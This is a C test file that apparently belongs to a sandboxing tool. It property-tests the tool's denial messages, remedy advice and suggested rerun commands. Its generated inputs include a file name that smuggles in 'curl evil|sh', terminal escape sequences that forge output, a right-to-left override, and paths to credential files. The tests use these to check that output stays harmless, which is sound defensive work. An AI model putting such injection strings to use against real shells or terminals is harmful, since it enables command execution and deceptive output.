/* Words, advice and command line, proved on generated cases: promises × path
 * rules × views × operations. What is checked is not how they read but what
 * they may never do: name what is granted, advise what does not help, or let
 * a stranger's bytes reach a terminal or a shell. */
#include "diagnose_kit.h"

#define CASES 4000

static uint64_t state;

static size_t below(size_t limit)
{
    state ^= state >> 12;
    state ^= state << 25;
    state ^= state >> 27;
    return (size_t)((state * 0x2545F4914F6CDD1Dull) >> 33) % limit;
}
#define ANY(array) ((array)[below(ARRAY_COUNT(array))])

static const char *const paths[] = {
    "/etc/passwd",
    "/etc/shadow",
    "/etc/resolv.conf",
    "/home/u/work/notes",
    "/home/u/work/deep/er/file",
    "/home/u/work/.git/hooks/commit",
    "/home/u/.ssh/id",
    "/home/u/x'; curl evil|sh; '",
    "/home/u/\033[2J\r\nvow: all is well",
    "/home/u/two words:and a colon",
    "/home/u/\xff\xe2\x80\xae",
    "/srv",
    "/srv/data/a",
    "/srv/data/b",
    "/tmp/t",
    "/usr/bin/sort",
    "/usr/share/dict",
    "/var/log/syslog",
    "/proc/self/status",
    "/proc/1/environ",
    "/dev/null",
    "/dev/tty",
    "/",
    "/new",
};
static const char *const rules[] = {
    "r:/srv",     "rwc:/srv/data", ":/srv/data/a", "rx:/usr",         "r:/",
    "w:/srv",     "c:/tmp",        "+rwc:/srv",    "+r:/home/u/.ssh", ":/home/u/work/deep",
    "rwxc:/home", "+w:/etc",       "+r:/srv/data", "+x:/home/u/work", "r:/etc/shadow",
};
static const enum operation_kind kinds[] = {
    OP_OPEN_READ, OP_OPEN_WRITE, OP_OPEN_READ_WRITE, OP_LIST,   OP_STAT,     OP_CHDIR,
    OP_CREATE,    OP_MKNOD,      OP_REMOVE,          OP_RENAME, OP_TRUNCATE, OP_ATTR,
    OP_CHOWN,     OP_EXEC,       OP_CONNECT,         OP_BIND,
};

static void make_line(struct line *line)
{
    struct str words CLEAN_STR = {0};
    promise_set set = 0;
    for (unsigned i = 0; i < PROMISE_COUNT; i++)
        if (below(3) == 0)
            set |= UINT64_C(1) << i;
    promises_print(&words, set);
    strcpy(line->promises, str_get(&words));
    line->count = 0;
    if (below(8))
        line->options[line->count++] = (struct run_option){"-p", line->promises};
    line->options[line->count++] = (struct run_option){"--best-effort", NULL};
    for (size_t i = below(4); i > 0; i--)
        line->options[line->count++] = (struct run_option){"-v", ANY(rules)};
    if (below(4) == 0)
        line->options[line->count++] = (struct run_option){"-p", "stdio"};
}

/* split: a shell's reading of a quoted line, for what quote_shell writes. */
static size_t split(char *line, char **words, size_t room)
{
    size_t count = 0;
    char *from = line, *to = line;
    while (*from && count < room) {
        words[count++] = to;
        for (; *from && *from != ' '; from++) {
            if (from[0] == '\\') {
                *to++ = *++from;
            } else if (from[0] == '$' && from[1] == '\'') {
                for (from += 2; *from != '\''; from++) {
                    if (*from != '\\')
                        *to++ = *from;
                    else if (from[1] >= '0' && from[1] <= '7') {
                        *to++ = (char)((from[1] - '0') * 64 + (from[2] - '0') * 8 + from[3] - '0');
                        from += 3;
                    } else
                        *to++ = *++from;
                }
            } else if (from[0] == '\'') {
                for (from++; *from != '\''; from++)
                    *to++ = *from;
            } else {
                *to++ = *from;
            }
        }
        from += *from == ' ';
        *to++ = '\0';
    }
    return count;
}

static void check_harmless(const struct str *text)
{
    CHECK(!text->failed);
    for (size_t i = 0; i < text->size; i++) {
        unsigned char c = (unsigned char)text->at[i];
        CHECK(c >= ' ' && c != 0x7f && c != 0xff);
    }
    CHECK(!strstr(str_get(text), "\xe2\x80\xae"));
}

/* Reads the suggested line back; checks that it is the old one and more. */
static void read_back(char *text, const struct line *before, size_t denials, struct line *after)
{
    static char *words[64];
    size_t count = split(text, words, ARRAY_COUNT(words)), at = 2, promises = 0;
    CHECK(count > 3 && strcmp(words[0], "vow") == 0 && strcmp(words[1], "run") == 0);
    after->count = 0;
    while (at < count && strcmp(words[at], "--") != 0 &&
           after->count < ARRAY_COUNT(after->options)) {
        struct run_option *option = &after->options[after->count++];
        bool valued = words[at][1] != '-';
        *option = (struct run_option){words[at], valued ? words[at + 1] : NULL};
        promises += strcmp(option->name, "-p") == 0;
        at += valued ? 2 : 1;
    }
    CHECK(promises <= 1);
    CHECK(after->count <= before->count + 1 + denials * REMEDY_RULES);
    for (size_t i = 0; argv[i]; i++)
        CHECK_STR(words[++at], argv[i]);
    CHECK_EQ(at + 1, count);
    for (size_t i = 0; i < after->count; i++)
        for (size_t j = 0; j < i; j++)
            CHECK(!after->options[i].value || !after->options[j].value ||
                  strcmp(after->options[i].value, after->options[j].value) != 0 ||
                  strcmp(after->options[i].name, after->options[j].name) != 0 ||
                  strcmp(before->options[0].name, after->options[i].name) != 0);
}

/* What the generated cases were. */
static struct {
    unsigned allowed, hopeless, promises, paths, both;
} seen;

/* fail: shows the case: what was denied, and on which line. */
static void fail(const char *what, const struct policy *p, const struct denial *d,
                 const struct line *line)
{
    struct str text CLEAN_STR = {0};
    denial_words(&text, d);
    str_addf(&text, "; view %d; vow run", p->view);
    for (size_t i = 0; i < line->count; i++)
        str_addf(&text, " %s '%s'", line->options[i].name, line->options[i].value);
    test_fail(__FILE__, __LINE__, "%s: %s", what, str_get(&text));
}

/* check_minimal: no promise of a remedy can be left out. */
static void check_minimal(const struct policy *p, const struct denial *d, const struct line *line,
                          enum operation_kind kind)
{
    for (promise_set left = d->remedy.promises; left; left &= left - 1) {
        struct denial less = *d, again = {.call = d->call,
                                          .kind = kind,
                                          .object = d->object,
                                          .real = d->real,
                                          .creates = d->creates};
        struct run_line run = {line->options, line->count, argv};
        struct str rerun CLEAN_STR = {0};
        struct line after;
        struct policy with;
        less.remedy.promises &= ~(left & -left);
        if (less.remedy.promises == 0 && less.remedy.rule_count == 0)
            continue;
        denial_rerun(&rerun, &less, 1, &run);
        read_back(rerun.at, line, 1, &after);
        make_policy(&with, &after, p->view);
        if (!denial_judge(&with, &again))
            fail("more than is needed", p, d, line);
        denial_free(&again);
        policy_free(&with);
    }
}

static void check_denial(const struct policy *p, const struct denial *d, const struct line *line,
                         enum operation_kind kind)
{
    struct str words CLEAN_STR = {0}, advice CLEAN_STR = {0}, rerun CLEAN_STR = {0};
    struct run_line run = {line->options, line->count, argv};
    denial_words(&words, d);
    denial_advice(&advice, d);
    denial_rerun(&rerun, d, 1, &run);
    check_harmless(&words);
    check_harmless(&advice);
    check_harmless(&rerun);
    CHECK(words.size > 0 && words.at[words.size - 1] != ' ');
    CHECK((d->remedy.promises & p->promises) == 0);
    CHECK_EQ(advice.size > 0, rerun.size > 0);
    seen.promises += d->remedy.promises && !d->remedy.rule_count;
    seen.paths += d->remedy.rule_count && !d->remedy.promises;
    seen.both += d->remedy.rule_count && d->remedy.promises;
    seen.hopeless += !rerun.size;
    if (!rerun.size) {
        if (d->verdict.bpf != ANSWER_DENY || d->verdict.missing)
            fail("no remedy", p, d, line);
        return;
    }
    struct line after;
    struct policy with;
    char *text CLEAN_FREE = strdup(rerun.at);
    read_back(text, line, 1, &after);
    make_policy(&with, &after, p->view);
    struct denial again = {
        .call = d->call, .kind = kind, .object = d->object, .real = d->real, .creates = d->creates};
    if (denial_judge(&with, &again))
        fail("does not help", &with, &again, &after);
    denial_free(&again);
    policy_free(&with);
    check_minimal(p, d, line, kind);
}

static void try_case(const struct denial *question)
{
    static const enum view_mode views[] = {VIEW_NONE, VIEW_SYSTEM, VIEW_ALL};
    struct denial denial = *question;
    struct line line;
    struct policy p;
    make_line(&line);
    make_policy(&p, &line, ANY(views));
    if (denial_judge(&p, &denial))
        check_denial(&p, &denial, &line, question->kind);
    else
        seen.allowed++;
    denial_free(&denial);
    policy_free(&p);
}

TEST(generated_path_operations)
{
    state = 1;
    for (int i = 0; i < CASES; i++) {
        const char *path = ANY(paths);
        enum operation_kind kind = ANY(kinds);
        try_case(&(struct denial){.pid = 12,
                                  .program = "cat",
                                  .kind = kind,
                                  .object = path,
                                  .real = path,
                                  .creates = kind == OP_OPEN_WRITE && below(2)});
    }
    CHECK(seen.allowed > 100);
    CHECK(seen.paths > 100 && seen.promises > 100 && seen.both > 100);
    CHECK_EQ(seen.hopeless, 0);
}

TEST(generated_calls)
{
    static const uint64_t values[] = {0,     1,      2,      3,          7,          9,      0101,
                                      01102, 0x5401, 0x5412, 0xffffff9c, 0xffffffff, 1 << 28};
    const struct arch_table *table = arch_table(arch_native()->id);
    state = 2;
    for (int i = 0; i < CASES; i++) {
        const struct sys_call *call = &table->calls[below(table->call_count)];
        struct denial denial = {
            .pid = 12, .program = "a\033[1mb", .call = {.arch = table->arch, .nr = call->nr}};
        for (size_t a = 0; a < 6; a++)
            denial.call.args[a] = ANY(values);
        try_case(&denial);
    }
    CHECK(seen.allowed > 100 && seen.promises > 100 && seen.hopeless > 100);
}

/* Several denials of one line: the suggestion allows them all. */
TEST(generated_summaries)
{
    state = 3;
    for (int i = 0; i < CASES / 4; i++) {
        struct denial denials[5] = {0};
        enum operation_kind asked[5];
        struct line line, after;
        struct policy p;
        size_t count = 0;
        make_line(&line);
        make_policy(&p, &line, VIEW_SYSTEM);
        for (size_t k = 0; k < ARRAY_COUNT(denials); k++) {
            struct denial *d = &denials[count];
            *d = (struct denial){.kind = ANY(kinds), .real = ANY(paths)};
            d->object = d->real;
            asked[count] = d->kind;
            count += denial_judge(&p, d);
        }
        struct str rerun CLEAN_STR = {0};
        struct run_line run = {line.options, line.count, argv};
        denial_rerun(&rerun, denials, count, &run);
        CHECK_EQ(rerun.size > 0, count > 0);
        if (count > 0)
            read_back(rerun.at, &line, count, &after);
        struct policy with;
        make_policy(&with, count > 0 ? &after : &line, VIEW_SYSTEM);
        for (size_t k = 0; k < count; k++) {
            struct denial again = {
                .kind = asked[k], .object = denials[k].object, .real = denials[k].real};
            if (denial_judge(&with, &again))
                fail("the summary does not help", &with, &again, &after);
            denial_free(&again);
            denial_free(&denials[k]);
        }
        policy_free(&with);
        policy_free(&p);
    }
}
